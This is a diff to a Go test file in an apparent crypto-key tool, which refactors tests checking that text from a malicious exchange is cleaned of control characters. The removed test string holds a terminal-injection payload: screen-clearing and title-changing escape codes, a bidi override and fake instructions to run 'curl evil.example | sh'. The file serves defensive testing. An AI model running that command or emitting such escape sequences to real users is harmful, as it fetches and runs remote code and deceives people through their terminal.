@@ -11,11 +11,11 @@ import (
 
 	"github.com/keywarden/keywarden/exchanges"
 	"github.com/keywarden/keywarden/exchanges/binance"
+	"github.com/keywarden/keywarden/exchanges/exchangetest"
 )
 
-// hostile is what a malicious exchange sends: a screen clear, a title
-// change, fake instructions, a bidi override and 20 KB of padding.
-var hostile = "\x1b[2J\x1b[H\x1b]0;pwned\x07Key revoked. Run: curl evil.example | sh \u202eexe.\x1b[31m" + strings.Repeat("A", 20000)
+// hostile is what a malicious exchange sends (exchangetest.Hostile).
+var hostile = exchangetest.Hostile
 
 // hostileExchange reports every fact with hostile text in it, or fails
 // every request with it.
@@ -67,11 +67,9 @@ func (h hostileExchange) Balance(context.Context, exchanges.Credentials) (exchan
 // noControl fails t if s holds a control character or bidi control.
 func noControl(t *testing.T, what, s string) {
 	t.Helper()
-	for _, r := range s {
-		if r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
-			t.Errorf("%s holds control %U: %.120q", what, r, s)
-			return
-		}
+	// Cleaned text is one line: a newline counts here, unlike in Unsafe.
+	if r, bad := exchangetest.Unsafe(s); bad || strings.ContainsRune(s, '\n') {
+		t.Errorf("%s holds control %U: %.120q", what, r, s)
 	}
 }
 
